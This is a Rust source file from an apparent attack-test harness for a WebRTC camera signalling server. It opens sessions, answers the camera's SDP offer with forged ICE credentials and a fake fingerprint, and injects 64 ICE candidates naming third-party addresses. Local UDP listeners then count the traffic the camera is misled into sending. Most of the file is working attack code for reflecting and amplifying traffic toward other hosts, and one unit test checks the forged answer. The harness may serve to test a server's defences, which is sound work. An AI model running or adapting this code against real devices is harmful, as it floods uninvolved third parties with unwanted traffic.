//! Answers whose candidates are addresses of others, to which the camera then sends.

use std::time::Duration;

use anyhow::{Context, Result};
use serde_json::{Value, json};
use tokio::net::UdpSocket;
use tokio::time::sleep;

use crate::attack::client::Crowd;
use crate::attack::sources::named;

const CLIENTS: usize = 20;
/// How many addresses each names.
const NAMED: usize = 64;
const PORT: u16 = 9;
/// How long a session is left to itself.
const LONG: Duration = Duration::from_secs(4);

pub(super) async fn attack(crowd: &Crowd) {
    let name = crowd.all(crowd.at_least(CLIENTS), |client| name(crowd, client));
    let count = crowd.all(NAMED, |number| count(crowd, number));
    tokio::join!(name, count);
}

/// A third party, which counts what it gets.
async fn count(crowd: &Crowd, number: usize) -> Result<()> {
    let socket = UdpSocket::bind((named(number), PORT)).await?;
    let mut room = [0; 2_048];
    loop {
        socket.recv_from(&mut room).await?;
        crowd.count_misled(1);
    }
}

async fn name(crowd: &Crowd, client: usize) -> Result<()> {
    let mut peer = crowd.peer(client).await?;
    let start = json!({"type": "startSession", "peerId": crowd.producer_of(client)});
    peer.send(start.to_string()).await?;
    let offer = loop {
        let message: Value = serde_json::from_str(&peer.next_text().await?)?;
        anyhow::ensure!(message["type"] != "error", "refused");
        if message["sdp"]["type"] == "offer" {
            break message;
        }
    };
    let sdp = answer(offer["sdp"]["sdp"].as_str().context("a text")?);
    let session = &offer["sessionId"];
    let sdp = json!({"type": "answer", "sdp": sdp});
    let message = json!({"type": "peer", "sessionId": session, "sdp": sdp});
    peer.send(message.to_string()).await?;
    for number in 0..NAMED {
        let address = named(number);
        let candidate = format!("candidate:{number} 1 UDP 2122260223 {address} {PORT} typ host");
        let ice = json!({"candidate": candidate, "sdpMLineIndex": 0});
        let message = json!({"type": "peer", "sessionId": session, "ice": ice});
        peer.send(message.to_string()).await?;
        crowd.count_sent(1);
    }
    sleep(LONG).await;
    Ok(())
}

/// An answer to an offer that takes all of it.
fn answer(offer: &str) -> String {
    let lines = offer.lines().filter_map(|line| {
        let (name, value) = line.split_once(':').unwrap_or((line, ""));
        Some(match name {
            "a=candidate" | "a=end-of-candidates" | "a=ssrc" | "a=ssrc-group" | "a=msid" => {
                return None;
            }
            "a=sendonly" | "a=sendrecv" => "a=recvonly".to_owned(),
            "a=setup" => "a=setup:active".to_owned(),
            "a=ice-ufrag" => "a=ice-ufrag:attacker".to_owned(),
            "a=ice-pwd" => format!("a=ice-pwd:{}", "attackers".repeat(3)),
            "a=fingerprint" => {
                let digest = ["ab"; 32].join(":").to_uppercase();
                let function = value.split(' ').next().unwrap_or_default();
                format!("a=fingerprint:{function} {digest}")
            }
            _ => line.to_owned(),
        })
    });
    lines.map(|line| line + "\r\n").collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn answer_takes_what_is_offered_under_other_credentials() {
        let offer = "v=0\r\nm=video 9 UDP/TLS/RTP/SAVPF 96\r\na=sendonly\r\na=setup:actpass\r\n\
                     a=ice-ufrag:x\r\na=ice-pwd:y\r\na=fingerprint:sha-256 00:11\r\n\
                     a=candidate:1 1 UDP 1 192.0.2.1 9 typ host\r\na=mid:video0\r\n";
        let answer = answer(offer);
        let lines: Vec<_> = answer.lines().collect();
        assert_eq!(lines[..2], ["v=0", "m=video 9 UDP/TLS/RTP/SAVPF 96"]);
        assert_eq!(
            lines[2..5],
            ["a=recvonly", "a=setup:active", "a=ice-ufrag:attacker"]
        );
        assert!(lines[6].starts_with("a=fingerprint:sha-256 AB:AB:"));
        assert_eq!(lines[7..], ["a=mid:video0"]);
    }
}
